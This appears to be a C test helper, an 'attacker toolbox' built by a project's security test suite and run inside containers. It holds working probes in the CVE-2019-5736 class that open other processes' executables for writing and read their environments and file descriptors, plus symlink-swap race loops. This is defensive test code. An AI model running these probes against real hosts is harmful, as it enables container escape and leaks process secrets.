/* The attacker's toolbox, compiled with gcc -static by tests/security/conftest.py and run
 * inside containers. Every loop is bounded by a time limit and by a stop file.
 *
 *   attacker scan <out> <stopfile> <seconds>
 *       CVE-2019-5736 class: watch /proc for every process that appears and try to reach
 *       its executable and open files: open(/proc/P/exe) for O_PATH, O_RDONLY and O_WRONLY,
 *       readlink(/proc/P/exe), opendir(/proc/P/fd), readlink(/proc/P/cwd), open
 *       /proc/P/environ. Writes "SEEN pid cmdline" once per process and one line per
 *       access that worked: "GOT pid what dev:ino cmdline-after".
 *   attacker swap <dir> <name> <link-target> <stopfile> <seconds>
 *       race: keep exchanging <dir>/<name> between a directory and a symlink to
 *       <link-target> (renameat2 RENAME_EXCHANGE, so the name always exists).
 *   attacker swapfile <dir> <name> <link-target> <stopfile> <seconds>
 *       the same with a regular file instead of a directory.
 *   attacker swapkeep <dir> <name> <link-target> <stopfile> <seconds>
 *       the same with whatever <dir>/<name> already is (e.g. a device node).
 *   attacker ids
 *       prints "uid=R euid=E gid=G egid=H".
 *   attacker open <path> <r|w>
 *       open a file (a device node), read or write one byte; prints "OK" or "ERR errno".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int stopped(const char *stopfile, double deadline) {
    return now() > deadline || access(stopfile, F_OK) == 0;
}

static void cmdline(int pid, char *buf, size_t n) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
    buf[0] = 0;
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    ssize_t r = read(fd, buf, n - 1);
    close(fd);
    if (r < 0)
        r = 0;
    buf[r] = 0;
    for (ssize_t i = 0; i < r; i++)
        if (buf[i] == 0 || buf[i] == '\n' || buf[i] == ' ')
            buf[i] = '_';
}

#define MAXPIDS 4194304
static unsigned char *seen;

static void report(FILE *out, int pid, const char *what, int fd) {
    struct stat st;
    char after[512];
    unsigned long long dev = 0, ino = 0;
    if (fd >= 0 && fstat(fd, &st) == 0) {
        dev = st.st_dev;
        ino = st.st_ino;
    }
    cmdline(pid, after, sizeof after);
    fprintf(out, "GOT %d %s %u:%u:%llu %s\n", pid, what, major(dev), minor(dev), ino,
            after[0] ? after : "-");
    fflush(out);
}

static void probe(FILE *out, int pid) {
    char p[64], link[4096];
    int fd;
    static const struct { int flags; const char *name; } modes[] = {
        {O_PATH, "exe-path"}, {O_RDONLY, "exe-read"}, {O_WRONLY, "exe-write"}};
    for (unsigned i = 0; i < sizeof modes / sizeof modes[0]; i++) {
        snprintf(p, sizeof p, "/proc/%d/exe", pid);
        fd = open(p, modes[i].flags | O_CLOEXEC);
        if (fd >= 0) {
            report(out, pid, modes[i].name, fd);
            close(fd);
        }
    }
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    if (readlink(p, link, sizeof link - 1) >= 0)
        report(out, pid, "exe-readlink", -1);
    snprintf(p, sizeof p, "/proc/%d/cwd", pid);
    if (readlink(p, link, sizeof link - 1) >= 0)
        report(out, pid, "cwd-readlink", -1);
    snprintf(p, sizeof p, "/proc/%d/environ", pid);
    fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        char b[16];
        if (read(fd, b, sizeof b) >= 0)
            report(out, pid, "environ-read", -1);
        close(fd);
    }
    snprintf(p, sizeof p, "/proc/%d/fd", pid);
    DIR *d = opendir(p);
    if (d) {
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.')
                continue;
            char q[320];
            snprintf(q, sizeof q, "/proc/%d/fd/%s", pid, e->d_name);
            fd = open(q, O_PATH | O_CLOEXEC);
            if (fd >= 0) {
                char what[300];
                snprintf(what, sizeof what, "fd-%s", e->d_name);
                report(out, pid, what, fd);
                close(fd);
            }
        }
        closedir(d);
    }
}

static int scan(const char *outpath, const char *stopfile, double seconds) {
    FILE *out = fopen(outpath, "w");
    if (!out)
        return 2;
    seen = calloc(MAXPIDS, 1);
    int me = getpid();
    double deadline = now() + seconds;
    unsigned long rounds = 0;
    fprintf(out, "START %d\n", me);
    fflush(out);
    while (!stopped(stopfile, deadline)) {
        DIR *d = opendir("/proc");
        if (!d)
            return 3;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me || pid >= MAXPIDS)
                continue;
            if (!seen[pid]) {
                char c[512];
                cmdline(pid, c, sizeof c);
                fprintf(out, "SEEN %d %s\n", pid, c[0] ? c : "-");
                fflush(out);
                seen[pid] = 1;
            }
            probe(out, pid);
        }
        closedir(d);
        rounds++;
    }
    fprintf(out, "END rounds=%lu\n", rounds);
    fclose(out);
    return 0;
}

static int swap(const char *dir, const char *name, const char *target, const char *stopfile,
                double seconds, int file) {
    if (chdir(dir) < 0)
        return 2;
    char other[4096];
    snprintf(other, sizeof other, ".%s.swap", name);
    if (file != 2) {
        unlink(name);
        rmdir(name);
    }
    unlink(other);
    rmdir(other);
    if (file == 2) {
        struct stat st;
        if (fstatat(AT_FDCWD, name, &st, AT_SYMLINK_NOFOLLOW) < 0) {
            printf("stat %s: %s\n", name, strerror(errno));
            return 3;
        }
    } else if (file) {
        int fd = open(name, O_CREAT | O_WRONLY, 0644);
        if (fd < 0)
            return 3;
        close(fd);
    } else if (mkdir(name, 0755) < 0) {
        return 3;
    }
    if (symlink(target, other) < 0)
        return 4;
    double deadline = now() + seconds;
    unsigned long n = 0;
    while (!stopped(stopfile, deadline)) {
        for (int i = 0; i < 1000; i++, n++)
            syscall(SYS_renameat2, AT_FDCWD, name, AT_FDCWD, other, RENAME_EXCHANGE);
    }
    printf("swapped %lu times\n", n);
    return 0;
}

static int do_open(const char *path, const char *how) {
    int w = how[0] == 'w';
    int fd = open(path, (w ? O_WRONLY : O_RDONLY) | O_CLOEXEC);
    if (fd < 0) {
        printf("ERR %d %s\n", errno, strerror(errno));
        return 1;
    }
    char b = 0;
    ssize_t r = w ? write(fd, &b, 0) : read(fd, &b, 1);
    if (r < 0) {
        printf("ERR-IO %d %s\n", errno, strerror(errno));
        return 1;
    }
    printf("OK\n");
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 5 && !strcmp(argv[1], "scan"))
        return scan(argv[2], argv[3], atof(argv[4]));
    if (argc >= 7 && !strcmp(argv[1], "swap"))
        return swap(argv[2], argv[3], argv[4], argv[5], atof(argv[6]), 0);
    if (argc >= 7 && !strcmp(argv[1], "swapfile"))
        return swap(argv[2], argv[3], argv[4], argv[5], atof(argv[6]), 1);
    if (argc >= 7 && !strcmp(argv[1], "swapkeep"))
        return swap(argv[2], argv[3], argv[4], argv[5], atof(argv[6]), 2);
    if (argc >= 2 && !strcmp(argv[1], "ids")) {
        printf("uid=%d euid=%d gid=%d egid=%d\n", getuid(), geteuid(), getgid(), getegid());
        return 0;
    }
    if (argc >= 4 && !strcmp(argv[1], "open"))
        return do_open(argv[2], argv[3]);
    fprintf(stderr, "usage: attacker scan|swap|swapfile|ids|open ...\n");
    return 2;
}
